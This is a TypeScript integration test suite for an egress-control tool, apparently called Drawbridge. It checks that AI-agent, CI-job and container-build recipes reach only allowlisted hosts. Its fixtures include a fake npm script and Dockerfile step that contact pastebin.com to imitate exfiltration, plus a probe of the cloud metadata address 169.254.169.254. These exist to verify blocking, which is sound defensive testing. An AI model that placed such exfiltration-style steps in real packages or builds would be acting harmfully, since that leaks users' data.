/** docs/recipes/ai-agent.md, ci-runner.md and builds.md: their commands are typed in a lab, and what left it is compared with their text. */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { parse } from 'yaml';
import type { Drawbridge } from '../lab/drawbridge.js';
import { Lab } from '../lab/lab.js';
import { type Result, waitFor } from '../lab/process.js';
import { CONFIG, Kitchen } from './recipe.js';
import { hasBuildKit, makeBuilderImage } from './recipe-builder.js';

const SHIPPED = join(import.meta.dirname, '..', '..', 'allowlists');
const lists = Object.fromEntries(
  readdirSync(SHIPPED).map((file) => [file, readFileSync(join(SHIPPED, file), 'utf8')]),
);
const AT = {
  'registry.npmjs.org': '93.184.110.1',
  'docs.example.org': '93.184.110.2',
  'pastebin.com': '93.184.110.3',
} as const;
const METADATA = '169.254.169.254';
/** A project of which one package sends something to a paste site, as a step of a job and of a build. */
const STEP = [
  'wget -q -T 8 -O /dev/null https://registry.npmjs.org/left-pad || exit 1',
  'wget -q -T 8 -O /dev/null http://pastebin.com/ && echo sent || echo not sent',
];
const NPM = ['#!/bin/sh', ...STEP, ''].join('\n');

let lab: Lab;
let drawbridge: Drawbridge;
const left = (dst: string): Promise<number> => lab.sniffer.count({ direction: 'out', dst });
const queries = async (name: string): Promise<number> => (await lab.dns.queries(name)).length;
/** A client's attempt in a container: whether the server's answer arrived. */
async function reaches(container: string, url: string, seconds = 8): Promise<boolean> {
  const argv = ['wget', '-q', '-T', String(seconds), '-O', '/dev/null', url];
  return (await lab.exec(container, argv)).code === 0;
}

beforeAll(async () => {
  lab = await Lab.up();
  await Promise.all([
    lab.dns.set(Object.fromEntries(Object.entries(AT).map(([name, at]) => [name, { A: [at], ttl: 1 }]))),
    lab.image('node:22', { files: { '/bin/npm': NPM } }),
    makeBuilderImage(lab),
  ]);
  // The control of every denial: without Drawbridge all of this is reached.
  await lab.start({ name: 'before', node: false });
  for (const name of ['registry.npmjs.org', 'docs.example.org', 'pastebin.com'])
    expect(await reaches('before', `http://${name}/`)).toBe(true);
  await reaches('before', `http://${METADATA}/`, 1);
  expect(await left(METADATA)).toBeGreaterThan(0);
  await lab.docker('rm', '-f', 'before');
  drawbridge = lab.drawbridge({ lists });
  await drawbridge.ready();
  await lab.sniffer.clear();
  await lab.dns.clearLog();
});
afterAll(() => lab?.down());

describe('ai-agent.md', () => {
  const AGENT = 'agent-agent-1';
  let kitchen: Kitchen;
  beforeAll(() => {
    kitchen = new Kitchen(lab, drawbridge, 'ai-agent');
    kitchen.write();
  });

  it('starts an agent that reaches what its lists permit', async () => {
    const { stdout } = await kitchen.type('Start it', { timeoutMs: 30_000 });
    expect(stdout).toMatch(/^agent-agent-1\tenforce\tfull\t/m);
    expect(await left(AT['registry.npmjs.org'])).toBeGreaterThan(0);
  });

  it('lets a person allow a name while the client waits, and denies what was not decided', async () => {
    const asked = async (...names: readonly string[]): Promise<void> => {
      const { items } = JSON.parse((await drawbridge.get('/v1/asks')).body) as { items: { name: string }[] };
      expect(items.map(({ name }) => name)).toEqual(names);
    };
    const waiting = reaches(AGENT, 'http://docs.example.org/', 30);
    await vi.waitFor(() => asked('docs.example.org'), 10_000);
    const later = reaches(AGENT, 'http://pastebin.com/', 30);
    await vi.waitFor(() => asked('docs.example.org', 'pastebin.com'), 10_000);
    expect(await queries('docs.example.org')).toBe(0);
    const { stdout } = await kitchen.type('Decide about new names');
    expect(stdout).toMatch(/^\w+: agent-agent-1 wants docs\.example\.org\n/);
    expect(await waiting).toBe(true);
    expect(await left(AT['docs.example.org'])).toBeGreaterThan(0);
    expect(await later).toBe(false);
    expect([await queries('pastebin.com'), await left(AT['pastebin.com'])]).toEqual([0, 0]);
  });

  it('does not reach the metadata service of a cloud, and is not asked about it', async () => {
    expect(await reaches(AGENT, `http://${METADATA}/latest/meta-data/`)).toBe(false);
    expect(await left(METADATA)).toBe(0);
    expect((await drawbridge.cli(['ask'])).stdout).not.toContain(METADATA);
  });

  it('shows what it did, and why something is denied', async () => {
    // The client may end its wait for a name a moment before the service does, which records the denial then.
    await waitFor('both flows to be recorded', async () => {
      const { stdout } = await drawbridge.cli(['flows', AGENT]);
      return stdout.includes('docs.example.org 93.184.110.2') && stdout.includes('\tdeny\tpastebin.com');
    });
    const { stdout } = await kitchen.type('See what it did');
    expect(stdout).toMatch(/\tdeny\tpastebin\.com \(DNS\)\t/);
    expect(stdout).toMatch(/\tallow\tdocs\.example\.org 93\.184\.110\.2:80\/tcp\t/);
    expect(stdout).toMatch(/^deny: agent-agent-1 to pastebin\.com/m);
    expect(kitchen.untyped()).toEqual([]);
    await lab.docker('rm', '-f', AGENT);
  });
});

describe('ci-runner.md', () => {
  const SUMMARY = 'summary.md';
  const RISK = `\`pastebin.com`;
  let kitchen: Kitchen;
  const summary = (): string => readFileSync(kitchen.path(SUMMARY), 'utf8');
  /** Cells of the newest summary's row for this destination, with any port: verdict and connections. */
  const row = (to: string): string[] => {
    const newest = summary().split('### ').at(-1) ?? '';
    const line = newest.split('\n').find((l) => l.startsWith(`| \`${to}`)) ?? '';
    return line.split(' | ').slice(1, 3);
  };
  beforeAll(() => {
    kitchen = new Kitchen(lab, drawbridge, 'ci-runner');
    kitchen.write('compose.yaml', 'run-job');
  });

  it('observed jobs pass, and their summaries have what each of them talked to', async () => {
    const { stdout } = await kitchen.type('Observe');
    expect(stdout).toBe('sent\nsent\n');
    expect(await left(AT['pastebin.com'])).toBeGreaterThan(0);
    expect(summary().match(/^### What `job-[12]` talked to$/gm)).toHaveLength(2);
    expect(row('registry.npmjs.org:443/tcp')).toEqual(['**would-deny**', '1']);
    expect(row('pastebin.com:80/tcp')).toEqual(['**would-deny**', '1']);
    expect(summary()).not.toContain('not complete');
    const [shown] = kitchen.recipe.below('Observe', 'markdown');
    for (const line of shown?.split('\n').filter((l) => /^(###|\| dest|\| ---)/.test(l)) ?? [])
      expect(summary()).toContain(`${line}\n`);
  });

  it('the list is what was used, counted by runs, without the paste site', async () => {
    await kitchen.type('Read it, and make the list');
    const list = readFileSync(kitchen.path('ci.yaml'), 'utf8');
    expect(list).toMatch(/2 starts/);
    expect(list).toMatch(/in 2 of 2 starts\n {2}- registry\.npmjs\.org$/m);
    expect(list).toMatch(/^ {2}# - .*pastebin\.com.* # anyone can receive data there/m);
  });

  it('a job to which something is denied fails, and nothing of it has left the host', async () => {
    await lab.sniffer.clear();
    await lab.dns.clearLog();
    kitchen.write('.env');
    const { code, stdout } = await kitchen.type('Block', { check: false });
    expect({ code, stdout }).toEqual({ code: 1, stdout: 'not sent\n' });
    expect([await left(AT['pastebin.com']), await queries('pastebin.com')]).toEqual([0, 0]);
    expect(await left(AT['registry.npmjs.org'])).toBeGreaterThan(0);
    expect(row('pastebin.com (DNS)')[0]).toBe('**deny**');
    expect(row('registry.npmjs.org:443/tcp')).toEqual(['allow', '1']);
    expect(kitchen.untyped()).toEqual([]);
  });

  it('a container that is gone is found by its id, and one that talked to nothing as well', async () => {
    const [talked, silent] = await Promise.all([
      lab.start({ name: 'one', node: false, cmd: ['wget', '-q', '-O', '/dev/null', 'http://pastebin.com/'] }),
      lab.start({ name: 'two', node: false, cmd: ['true'] }),
    ]);
    for (const { id } of [talked, silent]) {
      await lab.docker('wait', id);
      await lab.docker('rm', id);
    }
    const of = async (id: string): Promise<string> =>
      (await drawbridge.cli(['flows', id, '--format', 'markdown'], { check: true })).stdout;
    const [first, second] = await Promise.all([of(talked.id), of(silent.id.slice(0, 12))]);
    expect(first).toContain(`| ${RISK}:80/tcp\` | **would-deny** | 1 |`);
    expect(second).toMatch(
      /\n\nNothing is recorded\.\n\nRecorded since \S+\. Connections that pass on macvlan.*\.\n$/,
    );
  });
});

describe('builds.md', () => {
  const BUILDER = 'buildx_buildkit_web0';
  let kitchen: Kitchen;
  const clear = async (): Promise<void> => {
    await lab.sniffer.clear();
    await lab.dns.clearLog();
  };
  /** The step has reached npm, and nothing of it has reached the paste site. */
  async function expectDenied(printed: string): Promise<void> {
    expect(printed).toBe('not sent\n');
    expect(await left(AT['registry.npmjs.org'])).toBeGreaterThan(0);
    expect([await left(AT['pastebin.com']), await queries('pastebin.com')]).toEqual([0, 0]);
  }
  const printedIn = async (image: string): Promise<string> =>
    (await lab.run({ image, node: false, network: 'none', cmd: ['cat', '/printed'] }, { check: true }))
      .stdout;

  beforeAll(async () => {
    kitchen = new Kitchen(lab, drawbridge, 'builds');
    await lab.docker('create', '--name', 'rootfs', lab.images.busybox);
    await lab.docker('export', '-o', kitchen.path('rootfs.tar'), 'rootfs');
    const steps = `RUN { ${STEP.join('; ')}; } > /printed`;
    writeFileSync(kitchen.path('Dockerfile'), `FROM scratch\nADD rootfs.tar /\n${steps}\n`);
  });

  it('without a policy, a step of the engine sends it', async () => {
    await clear();
    await kitchen.type('Builds of the engine');
    expect(await printedIn('shop')).toBe('sent\n');
    expect(await left(AT['pastebin.com'])).toBeGreaterThan(0);
  });

  it('a builder of its own reaches its lists and nothing else', async () => {
    kitchen.write();
    const { stdout } = await kitchen.type('Create the builder');
    expect(stdout).toMatch(/mode: +enforce \(list builders?[a-z-]*, which claims it\)/);
    expect(stdout).toMatch(/^registry\.npmjs\.org:443\tlist npm/m);
    expect(stdout).toMatch(/NONE privileged/);
    await clear();
    if (hasBuildKit) await kitchen.type('Build with it');
    const inBuilder = (): Promise<Result> => lab.exec(BUILDER, ['sh', '-c', STEP.join('; ')]);
    await expectDenied(hasBuildKit ? await printedIn('shop') : (await inBuilder()).stdout);
    const flows = await kitchen.type('See what its builds talked to');
    expect(flows.stdout).toMatch(/\tdeny\tpastebin\.com \(DNS\)\t/);
    expect(flows.stdout).toMatch(/^\| `registry\.npmjs\.org:443\/tcp` \| allow \| 1 \|/m);
    await lab.docker('rm', '-f', BUILDER);
  });

  it('steps of the engine have the policy of unattributed senders', async () => {
    drawbridge.configure(parse(kitchen.recipe.file(CONFIG)));
    await drawbridge.restart();
    await clear();
    await lab.docker('builder', 'prune', '-af');
    const { stdout } = await kitchen.type('Builds of the engine');
    await expectDenied(await printedIn('shop'));
    expect(stdout).toMatch(/\tunattributed\tdeny\tpastebin\.com \(DNS\)\t/);
    expect(kitchen.untyped()).toEqual(hasBuildKit ? [] : kitchen.recipe.below('Build with it'));
  });
});
